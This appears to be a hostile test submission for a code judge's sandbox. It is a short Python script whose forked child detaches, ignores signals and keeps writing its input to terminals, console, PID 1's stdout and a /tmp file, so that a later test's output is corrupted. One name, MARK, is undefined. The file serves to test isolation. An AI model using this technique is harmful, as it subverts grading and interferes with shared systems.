#: tries: a daemon of the first test writes the second test's answer to every descriptor it can open
#: task: recall
#: verdict: wrong_answer runtime_error time_limit
#: harms: leaves a process for a while

import os
import signal
import time

text = input()
print(text, flush=True)
if text and os.fork() == 0:
    os.setsid()
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    deadline = time.time() + 20
    while time.time() < deadline:
        for name in ("/dev/tty", "/dev/console", "/proc/1/fd/1", "/dev/stdout", "/tmp/" + MARK):
            try:
                with open(name, "w") as file:
                    file.write(text)
            except OSError:
                pass
        time.sleep(0.01)
